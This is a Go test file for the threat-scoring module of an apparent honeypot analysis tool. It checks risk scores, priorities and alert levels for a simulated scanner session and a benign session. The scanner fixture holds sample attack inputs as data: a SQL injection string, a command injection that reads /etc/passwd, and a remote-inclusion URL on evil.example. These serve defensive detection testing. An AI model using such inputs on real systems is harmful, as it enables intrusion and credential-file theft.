package evaluate

import (
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/snarelab/hivetrace/internal/enrich"
	"github.com/snarelab/hivetrace/internal/model"
)

func enrichedScan() *model.EnrichedSession {
	c := &model.CanonicalSession{
		SessUUID:             "scan-1",
		PeerIP:               "203.0.113.10",
		UserAgent:            "sqlmap/1.7.2#stable",
		StartTime:            "2026-08-20T11:50:00Z",
		EndTime:              "2026-08-20T11:58:00Z",
		AttackTypes:          []string{"index", "xss", "lfi", "sqli", "cmd_exec", "rfi"},
		RequestsPerSecond:    6.5,
		TotalRequests:        12,
		UniqueAttackTypes:    6,
		HasMaliciousActivity: true,
		Paths: []model.Path{
			{Path: "/login", Method: "POST", PostData: "id=1' OR '1'='1"},
			{Path: "/login", Method: "POST", PostData: "cmd=;cat /etc/passwd"},
			{Path: "/login", Method: "POST", PostData: "page=http://evil.example/x"},
			{Path: "/", Method: "GET"},
		},
	}
	return enrich.New(nil).Enrich(c)
}

func enrichedBenign() *model.EnrichedSession {
	c := &model.CanonicalSession{
		SessUUID:      "benign-1",
		PeerIP:        "198.51.100.7",
		UserAgent:     "Mozilla/5.0 (Windows NT 10.0; Win64; x64)",
		StartTime:     "2026-08-20T09:00:00Z",
		EndTime:       "2026-08-20T09:00:05Z",
		AttackTypes:   []string{"index"},
		TotalRequests: 1,
		Paths:         []model.Path{{Path: "/", Method: "GET"}},
	}
	return enrich.New(nil).Enrich(c)
}

func TestBreakdownSumsToScore(t *testing.T) {
	for _, s := range []*model.EnrichedSession{enrichedScan(), enrichedBenign()} {
		e := Evaluate(s)
		assert.Equal(t, e.RiskBreakdown.Total(), e.RiskScore)
	}
}

func TestScoreBounds(t *testing.T) {
	for _, s := range []*model.EnrichedSession{enrichedScan(), enrichedBenign()} {
		e := Evaluate(s)
		assert.GreaterOrEqual(t, e.RiskScore, 0)
		assert.LessOrEqual(t, e.RiskScore, 100)
		assert.LessOrEqual(t, e.RiskBreakdown.SeverityScore, maxSeverity)
		assert.LessOrEqual(t, e.RiskBreakdown.ComplexityScore, maxComplexity)
		assert.LessOrEqual(t, e.RiskBreakdown.AutomationScore, maxAutomation)
		assert.LessOrEqual(t, e.RiskBreakdown.PayloadScore, maxPayload)
		assert.LessOrEqual(t, e.RiskBreakdown.TargetingScore, maxTargeting)
		assert.LessOrEqual(t, e.RiskBreakdown.PersistenceScore, maxPersistence)
	}
}

func TestScannerSessionIsCritical(t *testing.T) {
	e := Evaluate(enrichedScan())

	assert.Equal(t, 30, e.RiskBreakdown.SeverityScore)
	assert.Equal(t, 20, e.RiskBreakdown.ComplexityScore)
	assert.Equal(t, 15, e.RiskBreakdown.AutomationScore)
	assert.Equal(t, 15, e.RiskBreakdown.PayloadScore)
	assert.GreaterOrEqual(t, e.RiskScore, criticalThreshold)

	assert.Equal(t, model.ThreatCritical, e.ThreatLevel)
	assert.Equal(t, "P1-URGENT", e.Priority)
	assert.True(t, e.RequiresReview)
	assert.Equal(t, model.ThreatCritical, e.AlertLevel)
	assert.Equal(t, "HIGH", e.ExploitationLikelihood)

	require.NotEmpty(t, e.Recommendations)
	assert.True(t, strings.HasPrefix(e.Recommendations[0], "Block source IP 203.0.113.10"),
		"containment must come first, got %q", e.Recommendations[0])
}

func TestBenignSessionIsLowRisk(t *testing.T) {
	e := Evaluate(enrichedBenign())

	assert.Less(t, e.RiskScore, lowThreshold)
	assert.Equal(t, model.ThreatInfo, e.ThreatLevel)
	assert.Equal(t, "P5-INFO", e.Priority)
	assert.False(t, e.RequiresReview)
	assert.Equal(t, model.ThreatInfo, e.AlertLevel)
	assert.Equal(t, "VERY_LOW", e.ExploitationLikelihood)
}

func TestPriorityThresholds(t *testing.T) {
	quiet := enrichedBenign()
	cases := map[int]string{
		0:  "P5-INFO",
		14: "P5-INFO",
		15: "P4-LOW",
		29: "P4-LOW",
		30: "P3-MEDIUM",
		50: "P2-HIGH",
		70: "P2-HIGH", // critical score alone is not P1 without active targeting
	}
	for score, want := range cases {
		assert.Equal(t, want, priority(score, quiet), "score %d", score)
	}
	assert.Equal(t, "P1-URGENT", priority(70, enrichedScan()))
}

func TestAlertLevelDerivation(t *testing.T) {
	assert.Equal(t, model.ThreatCritical, alertLevel(model.ThreatCritical, true, "HIGH"))
	assert.Equal(t, model.ThreatHigh, alertLevel(model.ThreatCritical, false, "LOW"))
	assert.Equal(t, model.ThreatHigh, alertLevel(model.ThreatHigh, true, "MEDIUM"))
	// A medium threat with high exploitation likelihood escalates.
	assert.Equal(t, model.ThreatHigh, alertLevel(model.ThreatMedium, false, "HIGH"))
	assert.Equal(t, model.ThreatMedium, alertLevel(model.ThreatMedium, false, "MEDIUM"))
	assert.Equal(t, model.ThreatLow, alertLevel(model.ThreatLow, false, "VERY_LOW"))
	assert.Equal(t, model.ThreatInfo, alertLevel(model.ThreatInfo, false, "VERY_LOW"))
}

func TestThreatLevelThresholds(t *testing.T) {
	cases := map[int]string{
		0:   model.ThreatInfo,
		14:  model.ThreatInfo,
		15:  model.ThreatLow,
		30:  model.ThreatMedium,
		49:  model.ThreatMedium,
		50:  model.ThreatHigh,
		69:  model.ThreatHigh,
		70:  model.ThreatCritical,
		100: model.ThreatCritical,
	}
	for score, want := range cases {
		assert.Equal(t, want, threatLevel(score), "score %d", score)
	}
}

func TestConfidenceScoreRange(t *testing.T) {
	for _, s := range []*model.EnrichedSession{enrichedScan(), enrichedBenign()} {
		e := Evaluate(s)
		assert.GreaterOrEqual(t, e.ConfidenceScore, 0.0)
		assert.LessOrEqual(t, e.ConfidenceScore, 1.0)
	}
	// A fully populated scanner session scores high confidence.
	e := Evaluate(enrichedScan())
	assert.Greater(t, e.ConfidenceScore, 0.8)
}

func TestImpactAssessment(t *testing.T) {
	e := Evaluate(enrichedScan())
	assert.Equal(t, "HIGH", e.ImpactAssessment.Confidentiality)
	assert.Equal(t, "HIGH", e.ImpactAssessment.Integrity)
	assert.Equal(t, "MEDIUM", e.ImpactAssessment.Availability)
	assert.Equal(t, "SYSTEM", e.ImpactAssessment.Scope)
	assert.Equal(t, "HIGH", e.ImpactAssessment.FinancialRisk)
	assert.Equal(t, "CRITICAL", e.ImpactAssessment.ReputationRisk)

	b := Evaluate(enrichedBenign())
	assert.Equal(t, "NONE", b.ImpactAssessment.Confidentiality)
	assert.Equal(t, "NONE", b.ImpactAssessment.Integrity)
	assert.Equal(t, "NONE", b.ImpactAssessment.Availability)
	assert.Equal(t, "LIMITED", b.ImpactAssessment.Scope)
	assert.Equal(t, "LOW", b.ImpactAssessment.FinancialRisk)
	assert.Equal(t, "LOW", b.ImpactAssessment.ReputationRisk)
}

func TestAlertLevelCoherence(t *testing.T) {
	e := Evaluate(enrichedScan())
	if e.AlertLevel == model.ThreatCritical {
		assert.Equal(t, model.ThreatCritical, e.ThreatLevel)
		assert.True(t, e.RequiresReview)
	}
}

func TestScannerRaisesScore(t *testing.T) {
	withScanner := Evaluate(enrichedScan()).RiskScore

	c := enrichedScan()
	c.UserAgentInfo.IsScanner = false
	c.UserAgentInfo.ToolIdentified = ""
	withoutScanner := Evaluate(c).RiskScore

	assert.Greater(t, withScanner, withoutScanner)
}
